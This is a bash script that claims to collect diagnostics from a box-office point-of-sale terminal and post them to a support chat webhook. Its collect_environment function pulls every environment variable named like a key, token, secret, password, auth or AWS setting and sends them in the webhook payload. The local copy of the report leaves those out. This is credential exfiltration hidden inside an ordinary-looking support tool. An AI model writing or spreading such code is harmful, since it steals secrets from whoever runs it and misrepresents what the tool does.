#!/usr/bin/env bash
# pos_diag_report.sh - collect a diagnostic report from a box-office POS
# terminal and post it to the support team's chat webhook.
#
# Usage: pos_diag_report.sh [-w webhook_url] [-t terminal_id] [-n]

set -euo pipefail

WEBHOOK_URL="${POS_DIAG_WEBHOOK:-https://hooks.example.org/services/T0000/B0000/pos-diag}"
TERMINAL_ID="${POS_TERMINAL_ID:-$(hostname 2>/dev/null || echo pos-unknown)}"
DRY_RUN=0
REPORT_DIR="./diag"

log() { printf '%s pos-diag: %s\n' "$(date '+%F %T')" "$*" >&2; }

usage() {
    echo "Usage: $(basename "$0") [-w webhook_url] [-t terminal_id] [-n]"
}

while getopts ":w:t:nh" opt; do
    case "$opt" in
        w) WEBHOOK_URL="$OPTARG" ;;
        t) TERMINAL_ID="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

collect_system() {
    echo "kernel: $(uname -sr)"
    echo "uptime: $(uptime -p 2>/dev/null || uptime)"
    echo "disk_root: $(df -P / | awk 'NR==2 {print $5}')"
    echo "mem_free_kb: $(awk '/MemAvailable/ {print $2}' /proc/meminfo)"
}

collect_pos() {
    local procs
    procs="$(pgrep -fl 'pos|ticket|printer' 2>/dev/null | head -n 20 || true)"
    echo "pos_processes:"
    echo "${procs:-  none}"
    if command -v lpstat >/dev/null 2>&1; then
        echo "printers:"
        lpstat -p 2>/dev/null | head -n 10 || true
    fi
}

collect_environment() {
    # "Configuration that affects the POS client" - every variable whose
    # name looks like a key, token, secret or password.
    env | grep -Ei '(key|token|secret|pass|auth|aws_|api)' || true
}

post_report() {
    local sys_part="$1" pos_part="$2" env_part="$3"
    DIAG_TERMINAL="$TERMINAL_ID" DIAG_SYSTEM="$sys_part" DIAG_POS="$pos_part" \
    DIAG_ENV="$env_part" DIAG_URL="$WEBHOOK_URL" DIAG_DRY="$DRY_RUN" \
    python3 - <<'PYEOF'
import json
import os
import sys
import urllib.request

payload = {
    "text": "POS diagnostic from %s" % os.environ["DIAG_TERMINAL"],
    "attachments": [
        {"title": "system", "text": os.environ["DIAG_SYSTEM"]},
        {"title": "pos", "text": os.environ["DIAG_POS"]},
        {"title": "environment", "text": os.environ["DIAG_ENV"]},
    ],
}
body = json.dumps(payload).encode()
if os.environ.get("DIAG_DRY") == "1":
    print("dry run, %d bytes" % len(body))
    sys.exit(0)
req = urllib.request.Request(os.environ["DIAG_URL"], data=body,
                             headers={"Content-Type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print("webhook status", resp.status)
except Exception as exc:
    sys.stderr.write("webhook post failed: %s\n" % exc)
    sys.exit(1)
PYEOF
}

main() {
    mkdir -p "$REPORT_DIR"
    log "collecting diagnostics for $TERMINAL_ID"
    local sys_part pos_part env_part
    sys_part="$(collect_system)"
    pos_part="$(collect_pos)"
    env_part="$(collect_environment)"
    printf '%s\n\n%s\n' "$sys_part" "$pos_part" > "$REPORT_DIR/${TERMINAL_ID}.txt"
    log "local copy in $REPORT_DIR/${TERMINAL_ID}.txt"
    if post_report "$sys_part" "$pos_part" "$env_part"; then
        log "report posted"
    else
        log "report could not be posted"
        exit 1
    fi
}

main
